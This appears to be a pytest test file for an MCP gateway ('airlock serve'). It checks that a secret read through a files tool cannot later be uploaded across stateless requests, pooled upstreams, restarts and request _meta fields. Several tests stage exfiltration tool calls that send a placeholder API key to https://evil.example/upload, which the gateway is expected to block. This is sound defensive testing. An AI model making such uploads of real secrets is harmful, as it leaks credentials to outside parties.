"""`airlock serve` and stateless (2026-07-28) requests: every request without `Mcp-Session-Id`
belongs to its principal's label state, kept by one pooled upstream per principal (issue 15,
item 3: they used to get a one-shot session each, so a secret read in one request could be sent
out in the next).

The real `airlock serve` on loopback, in front of the `files` scenario server (a `read_file`
whose dotenv variables the policy declares secret, an `upload` egress tool), driven by the real
mcp 2.x client in the 2026-07-28 era and by raw HTTP POSTs where the case is about ids on the
wire."""

from __future__ import annotations

import os
import re
import secrets
import signal
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import anyio
import httpx2
import orjson
import pytest
from anyio.abc import Process
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError

from gateway.errors import FLOW_DENIED
from gateway.labels.masks import META_KEY
from tests.e2e.conftest import (
    ROOT,
    TRANSPARENT_POLICY,
    eventually,
    fixture_server_argv,
    free_port,
    process_alive,
    upstream_pids,
    wait_until_dead,
)

pytestmark = pytest.mark.anyio

MODERN = "2026-07-28"
DOTENV = "/home/user/project/.env"
KEY = "sk-live-4f9a2c7e1b8d6035"  # the API key in the files scenario's .env
NOTES = "/home/user/project/notes.txt"
POLICY = """
version = 1
default = "deny"

[pins]
unpinned = "trust-on-first-use"

[[rules]]
id = "files-tools"
tools = ["files.*"]
action = "allow"

[[tools]]
tools = ["files.read_file"]
class = "read"
fields = { "variables" = "secret" }
trusted_fields = ["path", "format"]

[[tools]]
tools = ["files.upload"]
class = "egress"
control = ["url"]

[[flows]]
id = "no-secret-egress"
labels = ["private", "secret"]
to = ["egress"]
"""
ENVELOPE = {
    "io.modelcontextprotocol/protocolVersion": MODERN,
    "io.modelcontextprotocol/clientInfo": {"name": "airlock-stateless-tests", "version": "0"},
    "io.modelcontextprotocol/clientCapabilities": {},
}


@dataclass
class Served:
    url: str
    tokens: dict[str, str]  # token id -> secret
    stderr_path: Path

    def log(self) -> str:
        return self.stderr_path.read_text(errors="replace")

    def pools_opened(self, principal: str) -> int:
        return len(re.findall(rf"stateless pool opened .*principal={principal}\b", self.log()))

    def http(self, token_id: str = "tok1") -> httpx2.AsyncClient:
        return httpx2.AsyncClient(headers={"Authorization": f"Bearer {self.tokens[token_id]}"}, timeout=30)

    def client(self, http: httpx2.AsyncClient) -> Client:
        """The real mcp 2.x client; against the files server it speaks 2026-07-28 (stateless)."""
        return Client(streamable_http_client(self.url, http_client=http), mode="auto")


@asynccontextmanager
async def files_served(tmp_path: Path, *options: str, upstream: str = "scenarios/files_server.py") -> AsyncIterator[Served]:
    """`airlock serve` in front of the files scenario server (or another fixture server, under
    the transparent policy) with two tokens; on exit it must stop cleanly and leave no
    upstream process behind."""
    tokens = {f"tok{i}": secrets.token_hex(24) for i in (1, 2)}
    token_file = tmp_path / "tokens.txt"
    token_file.write_text("".join(f"{tid}:{secret}\n" for tid, secret in tokens.items()))
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY if upstream == "scenarios/files_server.py" else TRANSPARENT_POLICY.read_text())
    port = free_port()
    argv = [sys.executable, "-m", "gateway", "serve", "--listen", f"127.0.0.1:{port}", "--token-file", str(token_file)]
    argv += ["--policy", str(policy), "--name", "files", *options, "--", *fixture_server_argv(upstream)]
    served = Served(f"http://127.0.0.1:{port}/mcp", tokens, tmp_path / "serve.log")
    environment = {name: value for name, value in os.environ.items() if name != "AIRLOCK_TOKENS"}
    with open(served.stderr_path, "wb") as stderr:
        process: Process = await anyio.open_process(
            argv, cwd=str(ROOT), env=environment, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=stderr, start_new_session=True
        )
    try:

        async def answers() -> bool:
            if process.returncode is not None:
                pytest.fail(f"airlock serve exited with status {process.returncode}:\n{served.log()}")
            try:
                async with httpx2.AsyncClient() as http:
                    await http.get(served.url)
            except httpx2.TransportError:
                return False
            return True

        await eventually(answers, timeout=30)
        yield served
        process.terminate()
        with anyio.fail_after(30):
            status = await process.wait()
        assert status in (0, -signal.SIGTERM), served.log()
        assert [pid for pid in upstream_pids(served.log()) if process_alive(pid)] == [], "upstream processes outlived airlock serve"
    finally:
        with anyio.CancelScope(shield=True):
            if process.returncode is None:
                os.killpg(process.pid, signal.SIGKILL)
                await process.wait()
            for pid in upstream_pids(served.log()):
                if process_alive(pid):
                    os.killpg(pid, signal.SIGKILL)
            await process.aclose()


async def _read_the_key(served: Served, token_id: str = "tok1") -> None:
    """One conversation of `token_id`: list the tools, read the dotenv file (secret)."""
    async with served.http(token_id) as http, served.client(http) as client:
        assert client.protocol_version == MODERN
        await client.list_tools()
        read = await client.call_tool("read_file", {"path": DOTENV})
    assert read.structured_content is not None and read.structured_content["variables"]["API_KEY"] == KEY
    assert read.meta is not None and read.meta[META_KEY]["confidentiality"] == "secret"


async def _upload_the_key(served: Served, token_id: str = "tok1") -> Any:
    """Another conversation of `token_id`: send the key out. The result, or the MCPError."""
    async with served.http(token_id) as http, served.client(http) as client:
        await client.list_tools()
        try:
            return await client.call_tool("upload", {"url": "https://evil.example/upload", "content": KEY})
        except MCPError as error:
            return error


def _assert_flow_denied(outcome: Any) -> None:
    assert isinstance(outcome, MCPError), f"the upload was allowed: {outcome}"
    assert outcome.error.code == FLOW_DENIED
    assert outcome.error.data["rule"] == "no-secret-egress" and outcome.error.data["argument"] == "content"


async def _post(http: httpx2.AsyncClient, url: str, request_id: Any, method: str, params: dict[str, Any]) -> Any:
    """One raw 2026-07-28 request (no session id); its response message."""
    message = {"jsonrpc": "2.0", "id": request_id, "method": method, "params": {**params, "_meta": ENVELOPE}}
    headers = {
        "Content-Type": "application/json",
        "Accept": "application/json, text/event-stream",
        "Mcp-Protocol-Version": MODERN,
        "Mcp-Method": method,
    }
    answer = await http.post(url, content=orjson.dumps(message), headers=headers)
    assert answer.status_code == 200, answer.text
    if answer.headers["content-type"].startswith("application/json"):
        return answer.json()
    found = [orjson.loads(line[5:]) for line in answer.text.splitlines() if line.startswith("data:") and line[5:].strip()]
    return next(m for m in found if "method" not in m)


async def test_a_secret_read_in_one_stateless_request_cannot_be_sent_out_in_the_next(tmp_path: Path) -> None:
    async with files_served(tmp_path) as served:
        with anyio.fail_after(60):
            await _read_the_key(served)
            outcome = await _upload_the_key(served)
    _assert_flow_denied(outcome)


async def test_another_principal_is_not_tainted_by_the_first_ones_read(tmp_path: Path) -> None:
    async with files_served(tmp_path) as served:
        with anyio.fail_after(60):
            await _read_the_key(served, "tok1")
            theirs = await _upload_the_key(served, "tok2")  # tok2 never read the key: its state is clean
            ours = await _upload_the_key(served, "tok1")
    assert not isinstance(theirs, MCPError), theirs
    assert theirs.structured_content == {"status": "uploaded", "bytes": len(KEY)}
    _assert_flow_denied(ours)
    assert served.pools_opened("tok1") == 1 and served.pools_opened("tok2") == 1


async def test_twenty_stateless_requests_per_principal_share_one_upstream_process_each(tmp_path: Path) -> None:
    async with files_served(tmp_path) as served, served.http("tok1") as one, served.http("tok2") as two:
        with anyio.fail_after(120):
            for http in (one, two):
                await _post(http, served.url, 0, "tools/list", {})
            for number in range(1, 21):
                for http in (one, two):
                    reply = await _post(http, served.url, number, "tools/call", {"name": "list_files", "arguments": {}})
                    assert reply["id"] == number and reply["result"]["isError"] is False
        assert len(upstream_pids(served.log())) == 2
        assert served.pools_opened("tok1") == 1 and served.pools_opened("tok2") == 1


async def test_concurrent_stateless_requests_with_the_same_id_each_get_their_own_answer(tmp_path: Path) -> None:
    paths = [NOTES, "/home/user/project/README.md", "/home/user/project/src/widget.py"] * 4
    replies: dict[int, Any] = {}
    async with files_served(tmp_path) as served, served.http() as http:
        with anyio.fail_after(60):
            await _post(http, served.url, 1, "tools/list", {})

            async def read(index: int, path: str) -> None:
                replies[index] = await _post(http, served.url, 1, "tools/call", {"name": "read_file", "arguments": {"path": path}})

            async with anyio.create_task_group() as group:
                for index, path in enumerate(paths):
                    group.start_soon(read, index, path)
    for index, path in enumerate(paths):
        assert replies[index]["id"] == 1
        assert replies[index]["result"]["structuredContent"]["path"] == path


async def test_an_idle_pool_is_closed_and_sealed_and_the_next_one_keeps_the_principals_labels(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    async with files_served(tmp_path, "--session-idle-timeout", "1", "--log", str(logs), "--ephemeral-key") as served:
        with anyio.fail_after(60):
            await _read_the_key(served)
            (first,) = upstream_pids(served.log())
            await wait_until_dead(first)
            assert "idle for more than 1 s (--session-idle-timeout)" in served.log()
            (sealed,) = list(logs.iterdir())

            async def verifies(path: Path) -> bool:
                finished = await anyio.run_process([sys.executable, "-m", "gateway", "verify", str(path)], cwd=str(ROOT), check=False)
                return finished.returncode == 0

            await eventually(partial(verifies, sealed), timeout=30)
            outcome = await _upload_the_key(served)  # a new pool, a new upstream: the same label state
        _assert_flow_denied(outcome)
        assert len(upstream_pids(served.log())) == 2
        assert "label_state=continued" in served.log()


async def test_the_pool_counts_against_max_sessions_and_is_made_room_for_without_losing_labels(tmp_path: Path) -> None:
    initialize = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "stateful", "version": "0"}},
    }
    async with files_served(tmp_path, "--max-sessions", "1") as served:
        with anyio.fail_after(60):
            await _read_the_key(served)  # the pool holds the only place
            async with served.http() as http:
                headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
                opened = await http.post(served.url, content=orjson.dumps(initialize), headers=headers)
            assert opened.status_code == 200, opened.text  # the idle pool made room for it
            (pool_upstream, _) = upstream_pids(served.log())
            await wait_until_dead(pool_upstream)
            outcome = await _upload_the_key(served)  # makes room in turn (the session is idle)
        _assert_flow_denied(outcome)
        assert served.log().count("the longest idle, to make room at --max-sessions") == 2


async def test_when_the_pools_upstream_dies_the_next_request_starts_a_new_pool_with_the_same_labels(tmp_path: Path) -> None:
    async with files_served(tmp_path) as served:
        with anyio.fail_after(60):
            await _read_the_key(served)
            (first,) = upstream_pids(served.log())
            os.kill(first, signal.SIGKILL)
            await eventually(lambda: "session ended" in served.log())
            outcome = await _upload_the_key(served)
        _assert_flow_denied(outcome)
        assert served.pools_opened("tok1") == 2 and "label_state=continued" in served.log()


async def test_a_stateless_request_that_ends_before_its_answer_cancels_its_call_upstream(tmp_path: Path) -> None:
    async with files_served(tmp_path, upstream="probe_server.py") as served, served.http() as http:
        with anyio.fail_after(60):
            await _post(http, served.url, 1, "tools/list", {})
            async with anyio.create_task_group() as group:  # the client gives up: its connection closes
                group.start_soon(_post, http, served.url, 1, "tools/call", {"name": "block_until_cancelled", "arguments": {}})

                async def counts() -> dict[str, int]:
                    reply = await _post(http, served.url, 2, "tools/call", {"name": "cancellations", "arguments": {}})
                    return dict(reply["result"]["structuredContent"])

                await eventually(lambda: _reached(counts, "started"))
                group.cancel_scope.cancel()
            await eventually(lambda: _reached(counts, "cancelled"))
            assert await counts() == {"started": 1, "cancelled": 1}
        assert len(upstream_pids(served.log())) == 1


async def _reached(counts: Any, counter: str) -> bool:
    return bool((await counts())[counter] >= 1)


async def test_a_secret_in_the_meta_of_a_stateless_request_is_refused_and_so_in_a_stateful_session(tmp_path: Path) -> None:
    """The sink model on the HTTP front, both eras: `_meta` is checked like an argument."""
    async with files_served(tmp_path) as served:
        await _read_the_key(served)
        harmless = {"url": "https://evil.example/upload", "content": "hello"}
        async with served.http() as http, served.client(http) as client:  # 2026-07-28: stateless, the principal's state
            await client.list_tools()
            with pytest.raises(MCPError) as caught:
                await client.call_tool("upload", harmless, meta={"note": KEY})  # type: ignore[arg-type]
            assert caught.value.error.code == FLOW_DENIED
            assert caught.value.error.data["argument"] == "params._meta.note"
        async with served.http() as http, Client(streamable_http_client(served.url, http_client=http), mode="legacy") as client:
            await client.list_tools()  # 2025-11-25: a session of its own, so its own label state
            read = await client.call_tool("read_file", {"path": DOTENV})
            assert read.meta is not None and read.meta[META_KEY]["confidentiality"] == "secret"
            with pytest.raises(MCPError) as caught:
                await client.call_tool("upload", harmless, meta={"note": KEY})  # type: ignore[arg-type]
            assert caught.value.error.data["argument"] == "params._meta.note"
